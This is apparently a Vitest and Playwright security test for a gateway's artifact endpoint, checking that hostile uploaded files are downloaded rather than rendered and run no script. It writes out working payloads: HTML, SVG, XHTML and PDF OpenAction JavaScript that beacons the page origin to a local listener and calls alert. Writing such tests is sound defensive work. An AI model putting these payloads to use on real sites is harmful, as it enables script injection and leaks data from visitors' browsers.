import { createHash } from "node:crypto";
import { once } from "node:events";
import { createServer, type Server } from "node:http";
import { startTestGateway, type TestGateway } from "@clew/gateway/testing/start-test-gateway";
import type { Browser } from "playwright";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { launchChromium } from "../support/chromium.ts";

/** Calls home from wherever it runs, in every way a file may. */
const script = (home: string) =>
  `fetch("${home}/fetched?" + encodeURIComponent(location.origin), { mode: "no-cors" }); new Image().src = "${home}/image"; alert(1)`;

const files: readonly (readonly [name: string, contentType: string, text: (home: string) => string])[] = [
  [
    "page.html",
    "text/html",
    (home) =>
      `<!doctype html><title>pwned</title><img src="${home}/markup"><script>${script(home)}</script><body onload='${script(home)}'>`,
  ],
  [
    "drawing.svg",
    "image/svg+xml",
    (home) =>
      `<svg xmlns="http://www.w3.org/2000/svg" onload='${script(home)}'><script>${script(home)}</script><image href="${home}/svg-image"/></svg>`,
  ],
  [
    "paper.pdf",
    "application/pdf",
    (home) =>
      `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL("${home}/pdf",true))>>>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>`,
  ],
  ["sheet.xml", "application/xhtml+xml", (home) => `<html xmlns="http://www.w3.org/1999/xhtml"><script>${script(home)}</script></html>`],
  ["unlabelled.bin", "", (home) => `<html><script>${script(home)}</script></html>`],
];

describe("a file that a hostile page left", () => {
  let site: TestGateway;
  let browser: Browser;
  let path = "";
  let home: Server;
  const calls: string[] = [];
  beforeAll(async () => {
    home = createServer((request, response) => {
      calls.push(request.url ?? "");
      response.end();
    }).listen(0, "127.0.0.1");
    await once(home, "listening");
    const homeUrl = urlOf(home);
    site = await startTestGateway();
    const run = site.fake.addRun(1);
    run.finish();
    for (const [name, contentType, text] of files) {
      const bytes = Buffer.from(text(homeUrl));
      run.artifacts.set(name, { artifact: { contentType, sha256: createHash("sha256").update(bytes).digest("hex") }, bytes });
    }
    path = `/v1/runs/${run.id}/artifacts`;
    browser = await launchChromium();
  });
  afterAll(async () => {
    await browser?.close();
    await site?.[Symbol.asyncDispose]();
    home.close();
  });

  it.each(files.map(([name]) => name))("%s is kept, not shown, and runs nothing when it is opened", async (name) => {
    const page = await browser.newPage();
    const dialogs: string[] = [];
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await page.goto(site.url);
    const downloading = page.waitForEvent("download");
    await page.goto(`${site.url}${path}/${name}`).catch(() => {});
    const download = await downloading;
    expect(download.suggestedFilename()).toBe(name);
    expect(page.url()).toBe(`${site.url}/`);
    expect([dialogs, calls]).toEqual([[], []]);
    await page.close();
  });

  it.each(files.map(([name]) => name))("%s runs nothing when a page of our own origin frames, embeds or draws it", async (name) => {
    const page = await browser.newPage();
    await page.goto(site.url);
    await page.evaluate(async (url) => {
      const put = (tag: string, attribute: string) => {
        const element = document.createElement(tag);
        element.setAttribute(attribute, url);
        document.body.append(element);
        return new Promise((resolve) => {
          element.onload = element.onerror = resolve;
          // A frame whose content is kept away tells nothing.
          setTimeout(resolve, 500);
        });
      };
      await Promise.all([put("iframe", "src"), put("embed", "src"), put("object", "data"), put("img", "src"), put("script", "src")]);
    }, `${path}/${name}`);
    expect(calls).toEqual([]);
    await page.close();
  });

  it("is sent with headers that would keep it from running even where it is shown", async () => {
    for (const [name] of files) {
      const { headers } = await fetch(`${site.url}${path}/${name}`);
      expect(headers.get("x-content-type-options")).toBe("nosniff");
      expect(headers.get("content-security-policy")).toBe("sandbox; default-src 'none'");
      expect(headers.get("content-disposition")).toBe(`attachment; filename="${name}"`);
      expect(headers.get("content-type")).toMatch(/^[\w.+-]+\/[\w.+-]+$/);
    }
  });

  it("calls home where nothing holds it: the test can fail", async () => {
    const bare = createServer((_request, response) =>
      response.setHeader("content-type", "text/html").end(files[0]?.[2](urlOf(home))),
    ).listen(0, "127.0.0.1");
    await once(bare, "listening");
    const page = await browser.newPage();
    page.on("dialog", (dialog) => dialog.dismiss());
    await page.goto(urlOf(bare));
    await expect.poll(() => calls.length).toBeGreaterThan(0);
    await page.close();
    bare.close();
  });
});

function urlOf(server: Server): string {
  const address = server.address();
  return `http://127.0.0.1:${typeof address === "object" ? address?.port : ""}`;
}
